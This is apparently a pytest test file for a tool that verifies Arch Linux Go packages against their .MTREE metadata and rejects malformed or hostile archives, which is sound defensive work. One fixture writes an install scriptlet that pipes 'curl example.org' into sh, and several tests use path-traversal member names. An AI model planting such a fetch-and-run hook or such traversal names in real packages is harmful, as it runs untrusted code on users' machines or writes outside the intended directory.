"""Package files: what is read of them, and what is refused."""

from __future__ import annotations

import re
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from forge.tape import read_tape, write_tape
from samego.compare.claims import judge_claims
from samego.distro.interface import Request
from samego.errors import HostileArchiveError, InputError, ToolError, VerificationError
from samego.formats.tree.goroot import goroot_view
from samego.model.release import Release, Target
from samego_arch import DISTRO
from samego_arch.package import alpm
from support.arch_packages import DATE, ArchMaker
from support.words import where_of

Requests = Callable[..., Request]


def contradictions(request: Request) -> dict[str, str]:
    """What a package contradicts of its own .MTREE."""
    with DISTRO.open(request) as shipment:
        assert shipment.claims is not None
        payload = shipment.read(frozenset())
        return {found.path: where_of(found) for found in judge_claims(payload, shipment.claims)}


@pytest.mark.parametrize("suffix", ["", ".gz", ".xz", ".zst"])
def test_a_package(maker: ArchMaker, request_for: Requests, suffix: str) -> None:
    path = replace(maker, suffix=suffix).write()
    with DISTRO.open(request_for(path)) as shipment:
        (package,) = shipment.subject.packages
        assert (package.name, package.version) == ("go", "2:1.24.9-1")
        assert package.architecture == "x86_64"
        assert shipment.subject.release == Release(24, 9)
        assert shipment.subject.target == Target("linux", "amd64")
        assert shipment.inputs.timestamp == DATE
        assert shipment.notes == (
            "no PKGBUILD is given: patches are unknown, settings are the policy's",
        )
        payload = shipment.read(frozenset())
        assert {".BUILDINFO", ".PKGINFO", *maker.contents} == set(payload)
        view = goroot_view(payload, shipment.subject.goroot)
        assert view.tree["doc/go_spec.html"].size == 4
        assert view.links["doc"].link == "/usr/share/doc/go"
        assert view.dangling == ()
    assert contradictions(request_for(path)) == {}


@pytest.mark.parametrize(
    ("name", "notes"),
    [
        ("go-2%3A1.24.9-1-x86_64.pkg.tar.zst", 0),
        ("go-2:1.24.9-1-x86_64.pkg.tar.zst", 0),
        ("go-2_1.24.9-1-x86_64.pkg.tar.zst", 0),
        ("go-2_1.24.9-1-x86_64.pkg.tar (1).zst", 0),
        ("what I downloaded", 0),
        ("renamed.pkg.tar.zst", 0),
        ("go-2:1.24.8-1-x86_64.pkg.tar.zst", 1),
        ("go-2:1.24.9-1-aarch64.pkg.tar.zst", 1),
    ],
)
def test_file_names(maker: ArchMaker, request_for: Requests, name: str, notes: int) -> None:
    with DISTRO.open(request_for(maker.write(name))) as shipment:
        assert sum("the file's name says" in note for note in shipment.notes) == notes


def test_a_version_that_speaks_of_another_release(maker: ArchMaker, request_for: Requests) -> None:
    path = replace(maker, version="2:1.24.8-1").write()
    with DISTRO.open(request_for(path)) as shipment:
        assert shipment.subject.release == Release(24, 9)
        (said,) = shipment.self_description.statements
        assert (said.path, said.text, said.release) == (
            "/.PKGINFO:pkgver",
            "2:1.24.8-1",
            Release(24, 8),
        )


def test_a_patch_that_arch_is_known_to_apply(maker: ArchMaker, request_for: Requests) -> None:
    maker.contents["usr/lib/go/VERSION"] = b"go1.26.0\n"
    with DISTRO.open(request_for(replace(maker, version="2:1.26.0-1").write())) as shipment:
        assert "fix-avx512ScanPackedReqsMet.patch" in shipment.notes[-1]
        assert "--source" in shipment.notes[-1]


MAIN = "usr/lib/go/src/main.go"


@pytest.mark.parametrize(
    ("claimed", "unclaimed", "path", "where"),
    [
        ({MAIN: b"package mine\n"}, (), MAIN, "sha256"),
        ({MAIN: b"package main\n\n"}, (), MAIN, "size 13, .MTREE says 14; sha256"),
        ({MAIN: "elsewhere"}, (), MAIN, "a file, .MTREE says a link"),
        ({MAIN: None}, (), MAIN, "a file, .MTREE says a directory"),
        ({"usr/bin/go": "/usr/bin/true"}, (), "usr/bin/go", "leads to /usr/lib/go/bin/go, .MTREE"),
        ({"usr/lib/go/x": b""}, (), "usr/lib/go/x", ".MTREE lists it, and the package lacks it"),
        ({}, (MAIN,), MAIN, ".MTREE does not list it"),
        ({}, (".BUILDINFO",), ".BUILDINFO", ".MTREE does not list it"),
        ({".PKGINFO": b"other\n"}, (), ".PKGINFO", "sha256"),
    ],
)
def test_an_mtree_that_lies(
    maker: ArchMaker,
    request_for: Requests,
    claimed: dict[str, bytes | str | None],
    unclaimed: tuple[str, ...],
    path: str,
    where: str,
) -> None:
    package = replace(maker, claimed=claimed, unclaimed=unclaimed).write()
    found = contradictions(request_for(package))
    assert list(found) == [f"/{path}"]
    assert where in found[f"/{path}"]


def test_a_scriptlet_is_part_of_what_is_compared(maker: ArchMaker, request_for: Requests) -> None:
    maker.contents[".INSTALL"] = b"post_install() { curl example.org | sh; }\n"
    with DISTRO.open(request_for(maker.write())) as shipment:
        payload = shipment.read(frozenset())
        assert ".INSTALL" in goroot_view(payload, shipment.subject.goroot).outside
        assert shipment.policy.find("packaging", ".INSTALL") is None


@pytest.mark.parametrize("member", [".PKGINFO", ".BUILDINFO", ".MTREE"])
def test_metadata_must_be_there(maker: ArchMaker, request_for: Requests, member: str) -> None:
    path = replace(maker, members={member: None}).write()
    with pytest.raises(InputError, match=rf"not an Arch package .it has no \{member}"):
        contradictions(request_for(path))


def test_other_packages(maker: ArchMaker, request_for: Requests) -> None:
    with pytest.raises(InputError, match=r"\(go-tools\) is not a Go toolchain"):
        contradictions(request_for(replace(maker, name="go-tools").write()))
    with pytest.raises(InputError, match="not an architecture that Arch"):
        contradictions(request_for(replace(maker, architecture="any").write()))
    maker.contents["usr/lib/go/VERSION"] = b"devel go1.25-abcdef\n"
    with pytest.raises(InputError, match="names no release of Go"):
        contradictions(request_for(maker.write()))
    del maker.contents["usr/lib/go/VERSION"]
    with pytest.raises(InputError, match="it has no usr/lib/go/VERSION"):
        contradictions(request_for(maker.write()))


def test_records_of_two_builds(maker: ArchMaker, request_for: Requests) -> None:
    path = replace(maker, buildinfo={"pkgver": "2:1.24.8-1"}).write()
    with pytest.raises(VerificationError, match="contradicts itself: pkgver"):
        contradictions(request_for(path))


def test_libalpm_must_see_the_same_package(
    maker: ArchMaker, request_for: Requests, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = maker.write()
    other = maker.directory / "other"
    other.mkdir()
    seen = alpm.load_package(
        replace(maker, directory=other, version="2:1.24.10-1").write(), maker.directory
    )
    monkeypatch.setattr("samego_arch.package.package_file.load_package", lambda _path, _work: seen)
    with pytest.raises(VerificationError, match=r"is go 2:1\.24\.10-1 x86_64 for libalpm"):
        contradictions(request_for(path))


def test_what_libalpm_refuses(tmp_path: Path, maker: ArchMaker) -> None:
    with pytest.raises(InputError, match="libalpm cannot read x"):
        alpm.load_package(tmp_path / "x", tmp_path)
    path = tmp_path / "y"
    path.write_bytes(maker.write().read_bytes()[:300])
    with pytest.raises(InputError, match="libalpm cannot read y"):
        alpm.load_package(path, tmp_path)


def test_libalpm_lists_the_same_files(tmp_path: Path, maker: ArchMaker) -> None:
    package = alpm.load_package(maker.write(), tmp_path)
    assert set(package.files) == set(maker.contents)
    assert (package.base, package.builddate) == ("go", DATE)


def test_without_pyalpm(
    maker: ArchMaker, request_for: Requests, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = maker.write()
    alpm.pyalpm.cache_clear()
    monkeypatch.setitem(sys.modules, "pyalpm", None)
    request = request_for(path)
    assert DISTRO.recognises(request)
    with pytest.raises(ToolError, match="read through pyalpm") as caught:
        contradictions(request)
    assert "libalpm-dev" in caught.value.hint
    assert "libgpgme-dev" in caught.value.hint
    monkeypatch.undo()
    alpm.pyalpm.cache_clear()


def test_truncation_anywhere_is_an_error(maker: ArchMaker, request_for: Requests) -> None:
    path = maker.write()
    whole = path.read_bytes()
    for length in range(0, len(whole), 97):
        path.write_bytes(whole[:length])
        with pytest.raises(InputError):
            contradictions(request_for(path))


@pytest.mark.parametrize("name", ["../x", "/x", "usr/../../x", "usr/lib/go/VERSION/x"])
def test_hostile_names(maker: ArchMaker, request_for: Requests, name: str) -> None:
    maker.contents[name] = b""
    with pytest.raises((HostileArchiveError, InputError)):
        contradictions(request_for(replace(maker, unclaimed=(name,)).write()))


def _swapped(tar: bytes, first: str, second: str) -> bytes:
    """A tar with two members in the other order."""
    members, end = read_tape(tar)
    places = [n for n, member in enumerate(members) if member.path in {first, second}]
    one, other = places
    members[one], members[other] = members[other], members[one]
    return write_tape(members, end)


@pytest.mark.parametrize(
    ("first", "second", "said"),
    [
        (".PKGINFO", "usr", "'.PKGINFO' behind 'usr"),
        (".MTREE", "usr", "'.PKGINFO' behind 'usr'"),
        ("usr/lib/go/bin", "usr/lib/go/bin/go", "'usr/lib/go/bin' behind what lies in it"),
        ("usr/lib", "usr/lib/go", "'usr/lib' behind what lies in it"),
    ],
)
def test_an_order_that_makepkg_does_not_give(
    maker: ArchMaker, request_for: Requests, first: str, second: str, said: str
) -> None:
    path = replace(maker, suffix="").write()
    path.write_bytes(_swapped(path.read_bytes(), first, second))
    with pytest.raises(HostileArchiveError, match=re.escape(said)):
        contradictions(request_for(path))
